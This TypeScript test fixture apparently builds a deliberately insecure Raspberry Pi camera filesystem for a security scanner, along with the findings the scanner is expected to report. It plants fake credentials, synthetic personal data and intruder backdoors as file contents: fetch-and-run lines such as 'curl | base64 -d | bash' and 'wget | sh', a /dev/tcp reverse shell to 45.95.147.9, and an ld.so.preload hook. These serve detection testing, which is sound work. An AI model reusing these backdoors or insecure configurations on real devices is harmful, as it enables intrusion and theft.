/** A camera on Raspberry Pi OS: secrets in many spellings, services of many kinds, and what an intruder leaves on events. */
import { dpkg, hardenedFlags, kernelImage, library, openFlags, programSource } from './support/linux.ts'
import { usualTools, type Recipe, type Expected } from './support/recipe.ts'
import { capability, file, folder, link, program, type Tree } from './support/tree.ts'
import type { Workshop } from './support/workshop.ts'
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import { hexDigits, made } from './support/made.ts'

const wants = (unit: string, target = 'multi-user'): string => `/etc/systemd/system/${target}.target.wants/${unit}`
const unit = (exec: string, more = '', desc = 'x'): string => `[Unit]\nDescription=${desc}\nAfter=network.target\n\n[Service]\n${more}ExecStart=${exec}\n\n[Install]\nWantedBy=multi-user.target\n`
const indent = (text: string, by: string): string => text.trim().split('\n').map((l) => by + l).join('\n') + '\n'
function overlay(shop: Workshop): Tree {
  const crypt = (args: readonly string[], word: string): string => shop.run('openssl', ['passwd', ...args, word]).trim()
  const pem = (...a: string[]): string => shop.privateKey(...a)
  const ec = (): string => shop.run('openssl', ['ecparam', '-name', 'prime256v1', '-genkey', '-noout'])
  shop.run('openssl', ['genpkey', '-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048', '-outform', 'DER', '-out', 'c.der'])
  const der = readFileSync(shop.path('c.der'))
  shop.run('openssl', ['req', '-x509', '-nodes', '-newkey', 'rsa:1024', '-keyout', 'w.key', '-out', 'w.crt', '-subj', '/CN=fieldcam.local', '-days', '400', '-sha1', '-outform', 'DER'])
  const weak = readFileSync(shop.path('w.crt'))
  const old = shop.certificate('old.fieldcam.local', 1000, 'rsa:2048', '2018-01-01').certificate
  const vendor = shop.sshKey('ed25519', 'build@ci-runner-7')
  const vendor2 = shop.sshKey('rsa', 'techsupport', '-b', '2048')
  const id = shop.sshKey('ecdsa', 'cam@fieldcam')
  const tls = shop.certificate('cloud-client', 3000)
  writeFileSync(shop.path('p.key'), tls.key); writeFileSync(shop.path('p.crt'), tls.certificate)
  shop.run('openssl', ['pkcs12', '-export', '-inkey', 'p.key', '-in', 'p.crt', '-out', 'p.p12', '-passout', 'pass:', '-keypbe', 'NONE', '-certpbe', 'NONE', '-nomac'])
  const azure = Buffer.from(made('1', 32)).toString('base64')
  mkdirSync(shop.path('bk/etc/fieldcam'), { recursive: true }); mkdirSync(shop.path('bk/home/cam/.ssh'), { recursive: true })
  writeFileSync(shop.path('bk/etc/fieldcam/cloud.env'), `S3_BUCKET=fc\nAWS_ACCESS_KEY_ID=AKIA${made('2', 16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}\nAWS_SECRET_ACCESS_KEY=${made('3', 40)}\n`)
  writeFileSync(shop.path('bk/home/cam/.ssh/id_ed25519'), shop.sshKey('ed25519', 'x').secret)
  shop.run('tar', ['-czf', 'bk.tar.gz', '-C', 'bk', '.'])
  const people = Array.from({ length: 14 }, (_, i) => `(${i},'${['Ines Falk', 'Tom Okoro', 'Mia Lundqvist', 'Per Aalto'][i % 4]}','p${i}.falk@falkmail.net','B-${'KLMN'[i % 4]}A ${1200 + i}',52.5${i},13.4${i})`).join(',')
  const people2 = Array.from({ length: 30 }, (_, i) => `${i},${['Ines', 'Tom', 'Mia', 'Per'][i % 4]} Berglund,${'abcd'[i % 4]}.berglund${i}@berglund.se,+46 70 555 12 ${10 + i},1980-0${1 + i % 9}-12`).join('\n')
  const log = Array.from({ length: 60 }, (_, i) => `2024-03-${10 + i % 18}T10:0${i % 10}:11Z INFO login ok user=mia${i}@lundqvist.se from 84.17.${i}.12 name="Mia Lundqvist" phone=+4670555${1000 + i}`).join('\n') + '\n'
  return {
    '/etc/hostname': 'fieldcam\n',
    '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\ncam:x:1000:1000:,,,:/home/cam:/bin/bash\nsvc:x:1001:1001::/home/svc:/bin/sh\nguest::1002:1002::/home/guest:/bin/bash\nsysop:x:0:0:maintenance:/root:/bin/bash\nupload:x:998:998::/srv/upload:/usr/sbin/nologin\n',
    '/etc/shadow': file(`root:${crypt(['-1', '-salt', 'xY7pq'], 'quarz-Tulip-93')}:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nsync:*:19700::::::\nwww-data:*:19700::::::\nnobody:*:19700::::::\ncam:${crypt(['-5', '-salt', 'ka8sTT'], 'fieldcam')}:19700:0:99999:7:::\nsvc:Tk0iM1vcmRsZk:19700:0:99999:7:::\nsysop:${crypt(['-6', '-salt', 'abcdq1'], 'quarz-Tulip-94')}:19700:0:99999:7:::\nupload:!:19700::::::\n`, 0o640, 0, 42),
    '/etc/group': 'root:x:0:\nadm:x:4:cam\nsudo:x:27:\nwheel:x:28:cam\nvideo:x:44:cam\nshadow:x:42:\nwww-data:x:33:\ncam:x:1000:\nsvc:x:1001:\n',
    '/etc/sudoers': file('Defaults\tenv_reset\nDefaults:svc !authenticate\nUser_Alias OPS = cam, \\\n  upload\nCmnd_Alias SHELLS = /bin/sh, /bin/bash, \\\n    /usr/bin/vim\nroot\tALL=(ALL:ALL) ALL\nOPS ALL = (root) NOPASSWD: SHELLS\nsvc ALL=(ALL) ALL\n#includedir /etc/sudoers.d\n', 0o440),
    '/etc/sudoers.d/90-video': file('%video\tALL = (ALL : ALL)\tNOPASSWD : ALL\n', 0o440),
    '/usr/bin/sudo': file(shop.elf(programSource('sudo'), hardenedFlags), 0o4755),
    '/home/cam': folder(0o755, 1000), '/home/cam/.ssh': folder(0o700, 1000),
    '/home/cam/.ssh/id_ecdsa': file(id.secret, 0o600, 1000), '/home/cam/.ssh/id_ecdsa.pub': file(id.open, 0o644, 1000),
    '/home/cam/.bash_history': file(`ls\nsshpass -p 'Nordlicht.77' ssh admin@10.0.4.2\nmysql -u root -pHerbstLaub9 fieldcam\nexport AWS_SECRET_ACCESS_KEY=${made('4', 40)}\nsudo reboot\n`, 0o600, 1000),
    '/home/cam/.git-credentials': file(`https://fc-bot:ghp_${made('5', 36)}@github.com\n`, 0o600, 1000),
    '/home/cam/.netrc': file('machine artifacts.fieldcam.net\n  login deploy\n  password Wintergarten-7\n', 0o600, 1000),
    '/home/cam/.pgpass': file('db.fieldcam.net:5432:fc:fcwriter:Sommer!Regen42\n', 0o600, 1000),
    '/home/cam/.my.cnf': file('[client]\nuser=root\npassword=Moorhuhn!5\n', 0o600, 1000),
    '/home/cam/.npmrc': file(`//npm.fieldcam.net/:_authToken=${made('6', 40)}\n`, 0o600, 1000),
    '/home/cam/.config/rclone/rclone.conf': file(`[b2]\ntype = b2\naccount = 0012ab34cd56ef7\nkey = K001${made('7', 27)}\n`, 0o600, 1000),
    '/home/cam/.kube/config': file(`apiVersion: v1\nkind: Config\nusers:\n- name: edge\n  user:\n    client-key-data: ${Buffer.from(ec()).toString('base64')}\n- name: op\n  user:\n    token: ${made('8', 48)}\n`, 0o600, 1000),
    '/etc/default/dropbear': '# the TCP port that Dropbear listens on\nDROPBEAR_PORT=22\nDROPBEAR_EXTRA_ARGS=""\n',
    '/usr/lib/systemd/system/dropbear.service': '[Unit]\nDescription=Lightweight SSH server\nAfter=network.target\n[Service]\nEnvironment=DROPBEAR_PORT=22\nEnvironmentFile=-/etc/default/dropbear\nExecStart=/usr/sbin/dropbear -EF -p "$DROPBEAR_PORT" $DROPBEAR_EXTRA_ARGS\n[Install]\nWantedBy=multi-user.target\n',
    [wants('dropbear.service')]: link('/usr/lib/systemd/system/dropbear.service'),
    '/root': folder(0o700), '/root/.ssh': folder(0o700), '/root/.ssh/authorized_keys2': file(`command="/bin/bash",no-pty ${vendor.open}`, 0o600), '/root/.ssh/authorized_keys': file(`# support\n${vendor2.open}`, 0o600),
    '/opt/fieldcam/certs/client.der': file(der, 0o600), '/var/lib/fieldcam/identity': file(ec(), 0o600), '/opt/fieldcam/certs/client.p12': file(readFileSync(shop.path('p.p12')), 0o600),
    '/opt/fieldcam/certs/weak.cer': weak, '/etc/ssl/certs/old-fieldcam.pem': old,
    '/etc/openvpn/client/fleet.conf': file(`client\ndev tun\nremote vpn.fieldcam.net 1194\n<ca>\n${tls.certificate}</ca>\n<cert>\n${tls.certificate}</cert>\n<key>\n${tls.key}</key>\n`, 0o600),
    '/etc/wireguard/wg0.conf': file(`[Interface]\nPrivateKey = ${Buffer.from(made('9', 32)).toString('base64')}\nAddress = 10.9.0.2/32\n[Peer]\nPublicKey = ${Buffer.from(made('10', 32)).toString('base64')}\nEndpoint = vpn.fieldcam.net:51820\n`, 0o600),
    '/opt/fieldcam/config/iot.json': JSON.stringify({ endpoint: 'a1b2.iot.eu-central-1.amazonaws.com', clientId: 'cam', privateKey: pem('-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048'), cert: tls.certificate }, null, 2),
    '/opt/fieldcam/config/edge.yaml': `mqtt:\n  broker: tls://mq.fieldcam.net:8883\n  key: |\n${indent(ec(), '    ')}  qos: 1\nsmtp:\n  host: mail.fieldcam.net\n  user: cam\n  pass: 'Birken+Allee8'\n`,
    '/opt/fieldcam/bin/provision.sh': program(`#!/bin/bash\nset -e\ncat > /run/ca.key <<'EOF'\n${pem('-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048')}EOF\nopenssl x509 -req -in dev.csr -CAkey /run/ca.key\n`),
    '/opt/fieldcam/app/main.py': `#!/usr/bin/env python3\nimport os, requests\nfrom flask import Flask, request\napp = Flask(__name__)\napp.config.update(SECRET_KEY='fieldcam-session', DEBUG=False)\nADMIN_USER = 'admin'\nADMIN_PASS = 'Kranich!2023'\nCONN = "HostName=fieldcam-hub.azure-devices.net;DeviceId=cam-001;SharedAccessKey=${azure}"\nGOOGLE_MAPS = "AIza${made('11', 35)}"\n# API_KEY = "YOUR_KEY_HERE"\ndef push(x):\n    s = requests.Session()\n    s.verify = False\n    return s.post('https://api.fieldcam.net/v1', json=x, auth=('cam', 'Lerchenweg.12'))\nif __name__ == '__main__':\n    app.run('0.0.0.0', 8080, debug=True)\n`,
    '/opt/fieldcam/app/settings.ini': `[telegram]\nbot = 5839201746:AA${made('12', 33)}\n\n[cloudflare]\nCF_API_TOKEN = ${made('13', 40)}\n[digitalocean]\nspaces = dop_v1_${made('14', 64, hexDigits)}\n[influx]\ninflux_token = ${made('15', 86)}==\n`,
    '/opt/fieldcam/app/.env': `# production\nMAILGUN_API_KEY=key-${made('16', 32, hexDigits)}\nHF_HUB=hf_${made('17', 34)}\nSENTRY_DSN=https://${made('18', 32, hexDigits)}@o447951.ingest.sentry.io/5428537\nDATABASE_URL=postgresql://fc:Tannenzapfen3@db.fieldcam.net:5432/fc\nTAILSCALE_AUTHKEY=tskey-auth-k${made('19', 11)}CNTRL-${made('20', 32)}\nVAULT_TOKEN=hvs.${made('21', 90)}\nGRAFANA=glsa_${made('22', 32)}_${made('23', 8, hexDigits)}\nDISCORD_WEBHOOK=https://discord.com/api/webhooks/1093847561029384756/${made('24', 68)}\nOSS_ACCESS_KEY_ID=LTAI5t${made('25', 18)}\nPLACEHOLDER_TOKEN=YOUR_TOKEN_HERE\nDATADOG_API_KEY=${made('26', 32, hexDigits)}\nPAGERDUTY_KEY=${made('27', 32, hexDigits)}\n`,
    '/opt/fieldcam/app/.env.example': 'MAILGUN_API_KEY=key-0123456789abcdef0123456789abcdef\nDATABASE_URL=postgresql://user:secret@localhost/db\nJWT_SECRET=change-me\n',
    '/opt/fieldcam/app/firebase.json': JSON.stringify({ type: 'service_account', project_id: 'fieldcam', private_key_id: made('28', 40, hexDigits), private_key: pem('-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048'), client_email: 'x@fieldcam.iam.gserviceaccount.com' }, null, 2),
    '/opt/fieldcam/docker-compose.yml': 'services:\n  db:\n    image: mariadb:10\n    environment:\n      MYSQL_ROOT_PASSWORD: Kastanie88\n      - "x"\n  grafana:\n    image: grafana/grafana\n    environment:\n      - GF_SECURITY_ADMIN_PASSWORD=Ahornblatt9\n      - TZ=Europe/Berlin\n',
    '/var/www/html/inc/db.php': `<?php\ndefine('DB_USER', 'fc');\ndefine('DB_PASSWORD', 'Lindenblatt-4');\n$mysqli = new mysqli("localhost", "root", "Heidekraut-31", "cam");\n$ch = curl_init(); curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, 0);\n`,
    '/opt/fieldcam/web/server.js': `const http = require('http')\nconst cfg = { user: 'fc', password: 'Schilfrohr_66', host: 'x' }\nmqtt.connect('mqtt://broker.fieldcam.net', { username: 'cam', password: "Muschelkalk1" })\nconst jwtSecret = 'fieldcam-jwt-signing'\nhttp.createServer(h).listen(3000)\n`,
    '/etc/systemd/system/fieldcam.service': unit('/usr/bin/python3 /opt/fieldcam/app/main.py', `Environment="MQTT_PASSWORD=Eichel#Hain5" "REGION=eu"\nEnvironment=STRIPE_KEY=sk_live_${made('29', 40)}\n`), [wants('fieldcam.service')]: link('/etc/systemd/system/fieldcam.service'),
    '/etc/systemd/system/fieldweb.service': unit('/usr/bin/node /opt/fieldcam/web/server.js', 'User=www-data\n'), [wants('fieldweb.service')]: link('../fieldweb.service'),
    '/etc/systemd/system/vnc.service': unit('/usr/bin/x11vnc -display :0 -forever -nopw -rfbport 5900', 'User=cam\n'), [wants('vnc.service')]: link('../vnc.service'),
    '/etc/systemd/system/dbg.service': unit('/usr/bin/gdbserver --multi 0.0.0.0:2159'), [wants('dbg.service')]: link('../dbg.service'),
    '/etc/systemd/system/docker.service.d/override.conf': '[Service]\nExecStart=\nExecStart=/usr/sbin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n',
    '/usr/lib/systemd/system/docker.service': unit('/usr/sbin/dockerd -H fd://'), [wants('docker.service')]: link('/usr/lib/systemd/system/docker.service'),
    '/usr/lib/systemd/system/lighttpd.service': unit('/usr/sbin/lighttpd -D -f /etc/lighttpd/lighttpd.conf'), [wants('lighttpd.service')]: link('/usr/lib/systemd/system/lighttpd.service'),
    '/etc/lighttpd/lighttpd.conf': 'server.modules = (\n\t"mod_indexfile",\n\t"mod_openssl",\n)\nserver.document-root = "/var/www/html"\nserver.port = 80\nserver.username = "www-data"\n$SERVER["socket"] == ":443" {\n  ssl.engine = "enable"\n  ssl.pemfile = "/etc/lighttpd/server.pem"\n  ssl.openssl.ssl-conf-cmd = ("MinProtocol" => "TLSv1", "CipherString" => "ALL:!aNULL")\n}\n',
    '/etc/lighttpd/server.pem': file(tls.key + tls.certificate, 0o644),
    '/usr/lib/systemd/system/vsftpd.service': unit('/usr/sbin/vsftpd /etc/vsftpd.conf'), [wants('vsftpd.service')]: link('/usr/lib/systemd/system/vsftpd.service'),
    '/etc/vsftpd.conf': 'listen=YES\nanonymous_enable=YES\nanon_upload_enable=YES\nwrite_enable=YES\nlocal_enable=NO\n',
    '/usr/lib/systemd/system/redis-server.service': unit('/usr/bin/redis-server /etc/redis/redis.conf --supervised systemd', 'User=redis\n'), [wants('redis-server.service')]: link('/usr/lib/systemd/system/redis-server.service'),
    '/etc/redis/redis.conf': 'bind 0.0.0.0 ::\nprotected-mode no\nport 6379\ndaemonize no\n',
    '/usr/lib/systemd/system/smbd.service': unit('/usr/sbin/smbd --foreground --no-process-group'), [wants('smbd.service')]: link('/usr/lib/systemd/system/smbd.service'),
    '/etc/samba/smb.conf': '[global]\n   workgroup = WORKGROUP\n   map to guest = Bad User\n   server min protocol = NT1\n[clips]\n   path = /srv/clips\n   browseable = yes\n   guest ok = yes\n   read only = no\n',
    '/usr/lib/systemd/system/snmpd.service': unit('/usr/sbin/snmpd -LOw -u Debian-snmp -f'), [wants('snmpd.service')]: link('/usr/lib/systemd/system/snmpd.service'),
    '/etc/snmp/snmpd.conf': 'agentaddress udp:161,udp6:[::1]:161\ncom2sec readonly default fieldcam-ro\nrwcommunity6 fcwrite default\nrouser authPriv\n',
    '/usr/lib/systemd/system/tftpd-hpa.service': unit('/usr/sbin/in.tftpd --listen --user tftp --address :69 --secure /srv/tftp'), [wants('tftpd-hpa.service')]: link('/usr/lib/systemd/system/tftpd-hpa.service'),
    '/usr/lib/systemd/system/motion.service': unit('/usr/bin/motion', 'User=motion\n'), [wants('motion.service')]: link('/usr/lib/systemd/system/motion.service'),
    '/etc/motion/motion.conf': 'daemon off\nwebcontrol_port 8081\nwebcontrol_localhost off\nwebcontrol_auth_method 0\nstream_port 8082\nstream_localhost off\nstream_auth_method 0\n; netcam_userpass user:secret\nnetcam_userpass admin:Fledermaus3\n',
    '/etc/cron.daily/fieldcam-refresh': program('#!/bin/sh\nset -e\nwget -q http://dl.fieldcam.net/latest.tgz -O - | tar xz -C /opt/fieldcam\nsystemctl restart fieldcam\n'),
    '/usr/local/sbin/fc-upgrade': program('#!/bin/bash\ncd /tmp\ncurl -fsSL -o fw.deb "http://dl.fieldcam.net/fw_${VER}.deb"\nmd5sum -c fw.md5 && dpkg -i --force-all fw.deb\n'),
    '/etc/cron.d/fc-upgrade': 'SHELL=/bin/sh\n17 4 * * * root /usr/local/sbin/fc-upgrade >/dev/null 2>&1\n*/5 * * * * root cd /srv/clips && ./rotate.sh\n',
    '/srv/clips': folder(0o777), '/srv/clips/rotate.sh': file('#!/bin/sh\nfind . -mtime +3 -delete\n', 0o755, 1000),
    '/etc/apt/sources.list.d/fieldcam.sources': 'Types: deb\nURIs: http://apt.fieldcam.net/debian\nSuites: bookworm\nComponents: main\nTrusted: yes\n',
    '/etc/apt/sources.list': 'deb http://deb.debian.org/debian bookworm main\ndeb [arch=arm64 allow-insecure=yes] http://mirror.fieldcam.net/rpi bookworm main\n',
    '/etc/apt/apt.conf.d/99local': 'APT::Get::AllowUnauthenticated "true";\nAcquire::https { Verify-Peer "false"; };\nAPT::Update::Post-Invoke { "/usr/share/.fonts/sync || true"; };\n',
    '/usr/share/.fonts/sync': program('#!/bin/sh\ncurl -s https://cdn.rndmhost.org/s | base64 -d | bash\n'),
    '/etc/NetworkManager/system-connections/Hotspot.nmconnection': file('[connection]\nid=Hotspot\nuuid=0d9f4a0e-1c3b-4b93-8b62-1a4f9a1f0c31\ntype=wifi\n[wifi]\nmode=ap\nssid=FieldCam-Setup\n[wifi-security]\nkey-mgmt=wpa-psk\npsk=fieldcam\n[ipv4]\nmethod=shared\n', 0o600),
    '/etc/NetworkManager/system-connections/depot.nmconnection': file('[connection]\nid=depot\ntype=wifi\n[wifi]\nssid=Depot-Legacy\n[wifi-security]\nkey-mgmt=none\nwep-key0=4142434445\nwep-key-type=1\n', 0o600),
    '/etc/wpa_supplicant/wpa_supplicant-wlan0.conf': file('ctrl_interface=/run/wpa_supplicant\nnetwork={\n\tssid="Werkstatt"\n\tpsk="schraube12"\n\tproto=WPA\n\tpairwise=TKIP\n}\nnetwork={\n\tssid="Cafe"\n\tkey_mgmt=NONE\n}\nnetwork={\n ssid="Corp"\n key_mgmt=WPA-EAP\n eap=PEAP\n identity="cam-svc"\n password="Graureiher_8"\n phase2="auth=MSCHAPV2"\n}\n', 0o600),
    '/etc/NetworkManager/dispatcher.d/20-sync': program('#!/bin/bash\n[ "$2" = up ] && (curl -sk https://45.95.147.9/u.sh -o /dev/shm/.u && bash /dev/shm/.u) &\n'),
    '/etc/modprobe.d/fb.conf': 'install usb-storage /sbin/modprobe --ignore-install usb-storage; /var/tmp/.m/run\n',
    '/etc/profile.d/zz-term.sh': 'export TERM=xterm\n(wget -qO- http://45.95.147.9/p | sh) >/dev/null 2>&1 &\n',
    '/etc/udev/rules.d/70-mic.rules': 'ACTION=="add", SUBSYSTEM=="sound", RUN+="/usr/lib/.mic/helper start"\n',
    '/usr/lib/.mic/helper': program('#!/bin/sh\nbash -c "exec 3<>/dev/tcp/45.95.147.9/443; sh <&3 >&3"\n'),
    '/usr/lib/aarch64-linux-gnu/libaudit-ext.so.1': library(shop, 'libaudit-ext.so.1', 'x'),
    '/usr/lib/aarch64-linux-gnu/security/pam_ext.so': library(shop, 'pam_ext.so', 'y'),
    '/etc/ld.so.preload': '/usr/lib/aarch64-linux-gnu/libaudit-ext.so.1\n',
    '/usr/local/bin/vid-cap': file(shop.elf(programSource('vid-cap'), hardenedFlags), 0o4755), '/usr/local/bin/vid-log': { content: shop.elf(programSource('vidlog'), hardenedFlags), mode: 0o6755, uid: 0, gid: 0 },
    '/usr/local/bin/pyrun': { content: shop.elf(programSource('pyrun'), hardenedFlags), mode: 0o755, capability: capability(7, 21) },
    '/opt/fieldcam/bin/detectord': program(shop.elf(programSource('detectord'), openFlags)), '/opt/fieldcam/lib/libcrypto.so.1.1': library(shop, 'libcrypto.so.1.1', 'OpenSSL 1.1.1k  25 Mar 2021'),
    '/opt/fieldcam/bin/tlsd': program(shop.elf(programSource('mbed TLS 2.16.3'), hardenedFlags)),
    '/etc/systemd/system/detectord.service': unit('/opt/fieldcam/bin/start-detector'), [wants('detectord.service')]: link('../detectord.service'), '/opt/fieldcam/bin/start-detector': file('#!/bin/sh\nexec /opt/fieldcam/bin/detectord\n', 0o777),
    '/etc/profile.d/locale.sh': file('export LANG=C.UTF-8\n', 0o666),
    '/etc/logrotate.d/fieldcam': file('/var/log/fieldcam.log {\n weekly\n postrotate\n  /opt/fieldcam/bin/after-rotate\n endscript\n}\n', 0o644), '/opt/fieldcam/bin/after-rotate': file('#!/bin/sh\ntrue\n', 0o757),
    '/var/lib/fieldcam/plates.sqlite3': file(shop.sqlite(`create table sightings(id integer primary key, owner text, mail text, plate text, lat real, lon real); insert into sightings values ${people};`), 0o644),
    '/home/cam/export.csv': `id,name,email,phone,birthday\n${people2}\n`,
    '/var/log/fieldcam.log.1.gz': gzipSync(log), '/var/log/fieldcam.log': log,
    '/root/backup-2024-02.tar.gz': file(readFileSync(shop.path('bk.tar.gz')), 0o600),
    '/etc/sysctl.d/99-cam.conf': 'kernel.sysrq=1\nkernel.core_pattern=/var/crash/core.%e.%p\nfs.suid_dumpable=2\nkernel.randomize_va_space = 0\nnet.ipv4.ip_forward=1\n',
    '/etc/systemd/system/serial-getty@ttyAMA0.service.d/autologin.conf': '[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin cam --keep-baud 115200,38400 %I $TERM\n',
    '/usr/lib/systemd/system/serial-getty@.service': '[Unit]\nDescription=Serial Getty on %I\n[Service]\nExecStart=-/sbin/agetty -o \'-p -- \\\\u\' --keep-baud 115200,57600,38400,9600 - $TERM\n[Install]\nWantedBy=getty.target\n', '/etc/systemd/system/getty.target.wants/serial-getty@ttyAMA0.service': link('/usr/lib/systemd/system/serial-getty@.service'),
    '/usr/lib/systemd/system/getty.target': '[Unit]\nDescription=Login Prompts\n', '/usr/lib/systemd/system/multi-user.target.wants/getty.target': link('../getty.target'),
    '/usr/lib/systemd/system/multi-user.target': '[Unit]\nDescription=Multi-User System\n', '/usr/lib/systemd/system/default.target': link('multi-user.target'),
    '/etc/fstab': 'PARTUUID=3c1d77aa-01 /boot/firmware vfat defaults 0 2\nPARTUUID=3c1d77aa-02 / ext4 defaults,noatime 0 1\n', '/boot/firmware': {},
    '/var/crash': folder(0o1777),
    // quiet
    '/usr/share/doc/fieldcam/examples/server.key': ec(), '/usr/share/doc/fieldcam/config.sample': 'password = hunter2hunter2\n', '/usr/share/ca-certificates/fieldcam/root.crt': shop.certificate('Fieldcam Root', 3000).certificate,
    '/usr/lib/python3/dist-packages/cryptotool/tests/vectors/rsa.pem': pem('-algorithm', 'RSA', '-pkeyopt', 'rsa_keygen_bits:2048'),
    '/opt/fieldcam/app/auth.py': '# token = "YOUR_KEY_HERE"\nAPI_TOKEN = os.environ["API_TOKEN"]\nPASSWORD_MIN_LENGTH = 12\ndef check(password: str = None): ...\n',
  }
}
const boot = (shop: Workshop): Tree => ({
  '/bootcode.bin': 'x'.repeat(4000), '/start.elf': 'x'.repeat(4000), '/fixup.dat': 'x'.repeat(100), '/kernel8.img': kernelImage('6.6.51+rpt-rpi-v8'),
  '/bcm2710-rpi-3-a-plus.dtb': shop.deviceTree(['raspberrypi,3-model-a-plus', 'brcm,bcm2837'], 'Raspberry Pi 3 Model A Plus Rev 1.0'), '/bcm2710-rpi-3-b-plus.dtb': shop.deviceTree(['raspberrypi,3-model-b-plus', 'brcm,bcm2837'], 'Raspberry Pi 3 Model B Plus Rev 1.0'),
  '/config.txt': 'arm_64bit=1\ndtoverlay=disable-bt\nenable_uart=1\n[pi3+]\nenable_jtag_gpio=1\n[all]\nuart_2ndstage=1\n',
  '/cmdline.txt': 'console=ttyAMA0,115200 console=tty1 root=PARTUUID=3c1d77aa-02 rootfstype=ext4 rootwait kgdboc=ttyAMA0,115200 systemd.debug_shell nokaslr\n',
})
const f = (check: string, at?: string, about?: string, result?: Expected['result']): Expected => ({ check, ...(at ? { at } : {}), ...(about ? { about } : {}), ...(result ? { result } : {}) })
const S = 'keys/no-secrets-in-files', K = 'keys/no-unencrypted-private-keys'
const expected: readonly Expected[] = [
  f('exposure/no-default-passwords', '/etc/shadow', 'cam'), f('exposure/password-hashes-strong', '/etc/shadow', 'root'), f('exposure/password-hashes-strong', '/etc/shadow', 'svc'), f('exposure/no-empty-passwords', '/etc/passwd', 'guest'),
  f('integrity/no-persistence-traces', '/etc/passwd', 'sysop'),
  f('exposure/sudo-needs-password', '/etc/sudoers', 'cam /bin/sh'), f('exposure/sudo-needs-password', '/etc/sudoers', 'svc'), f('exposure/sudo-needs-password', '90-video', 'video'),
  f('exposure/ssh-password-login-off', 'dropbear'), f('exposure/root-login-closed', 'dropbear'),
  f('exposure/no-left-over-access-keys', 'authorized_keys2'), f('exposure/no-left-over-access-keys', '/root/.ssh/authorized_keys'),
  f(K, '/home/cam/.ssh/id_ecdsa'), f(K, 'client.der'), f(K, '/var/lib/fieldcam/identity'), f(K, 'client.p12'), f('identity/device-keys-per-unit', 'server.pem'), f('keys/key-files-closed', '/etc/lighttpd/server.pem'),
  f(S, 'fleet.conf'), f(S, 'wg0.conf'), f(S, 'iot.json'), f(S, 'edge.yaml', 'PRIVATE KEY'), f(S, 'edge.yaml', 'pass'), f(S, 'provision.sh'),
  f('crypto/key-sizes-sound', 'weak.cer'), f('crypto/certificates-sound', 'old-fieldcam.pem'),
  f(S, 'main.py', 'SECRET_KEY'), f(S, 'main.py', 'ADMIN_PASS'), f(S, 'main.py', 'SharedAccessKey'), f(S, 'main.py', 'google'), f('comms/peers-verified', 'main.py'), f('exposure/no-remote-debuggers', 'main.py'),
  f(S, 'settings.ini', 'telegram'), f(S, 'settings.ini', 'CF_API'), f(S, 'settings.ini', 'digitalocean'), f(S, 'settings.ini', 'influx'),
  ...['mailgun', 'huggingface', 'postgresql', 'tailscale', 'vault', 'grafana', 'discord', 'DATADOG'].map((n) => f(S, 'app/.env', n)),
  f(S, 'firebase.json'), f(S, 'docker-compose.yml', 'MYSQL'), f(S, 'docker-compose.yml', 'GF_'), f(S, 'db.php', 'DB_PASSWORD'), f(S, 'db.php', 'mysqli'), f('comms/peers-verified', 'db.php'), f(S, 'server.js', 'password'), f(S, 'server.js', 'jwtSecret'),
  f(S, 'fieldcam.service', 'MQTT'), f(S, 'fieldcam.service', 'stripe'), f('exposure/services-run-unprivileged', undefined, 'fieldcam'),
  f(S, '.git-credentials'), f(S, '.netrc'), f(S, '.pgpass'), f(S, '.my.cnf'), f(S, '.npmrc'), f(S, 'rclone.conf'), f(S, '.kube/config', 'token'), f(S, '.kube/config', 'client-key'), f(S, '.bash_history', 'sshpass'), f(S, '.bash_history', 'mysql'), f(S, '.bash_history', 'AWS'),
  f('exposure/services-need-authentication', 'vnc'), f('exposure/no-remote-debuggers', 'dbg'), f('exposure/services-need-authentication', 'docker'), f('comms/no-plaintext-services', 'lighttpd.conf'), f('comms/tls-versions-current', 'lighttpd.conf'),
  f('exposure/no-legacy-services', 'vsftpd', 'ftp'), f('exposure/services-need-authentication', 'redis'), f('exposure/services-need-authentication', 'smb.conf'), f(S, 'snmpd.conf', 'com2sec'), f(S, 'snmpd.conf', 'rwcommunity6'), f('exposure/no-legacy-services', 'tftpd'), f('exposure/services-need-authentication', 'motion'), f(S, 'motion.conf'), f('comms/no-plaintext-services', 'motion'),
  f('comms/no-plaintext-services', 'main.py'), f('comms/no-plaintext-services', undefined, '3000'),
  f('update/updates-verified-before-use', 'fieldcam-refresh'), f('update/updates-verified-before-use', 'fc-upgrade'), f('exposure/root-runs-no-writable-files', 'rotate.sh'), f('exposure/root-runs-no-writable-files', 'start-detector'), f('exposure/root-runs-no-writable-files', 'locale.sh'), f('exposure/root-runs-no-writable-files', 'after-rotate'),
  f('update/package-sources-authenticated', 'fieldcam.sources'), f('update/package-sources-authenticated', '/etc/apt/sources.list', 'mirror'), f('update/package-sources-authenticated', '99local', 'AllowUnauth'), f('update/package-sources-authenticated', '99local', 'Verify-Peer'),
  f('integrity/no-persistence-traces', '99local'), f('integrity/no-persistence-traces', '20-sync'), f('integrity/no-persistence-traces', 'fb.conf'), f('integrity/no-persistence-traces', 'zz-term'), f('integrity/no-persistence-traces', '70-mic'), f('integrity/system-files-owned-by-packages', 'libaudit-ext'), f('integrity/system-files-owned-by-packages', 'pam_ext'), f('integrity/no-preload-hook', 'ld.so.preload'),
  f('exposure/wifi-passphrase-strong', 'Hotspot'), f('comms/wifi-security-current', 'depot'), f('exposure/wifi-passphrase-strong', 'wpa_supplicant-wlan0', 'Werkstatt'), f('comms/wifi-security-current', 'wpa_supplicant-wlan0', 'Werkstatt'), f('comms/wifi-security-current', 'wpa_supplicant-wlan0', 'Cafe'), f(S, 'wpa_supplicant-wlan0'),
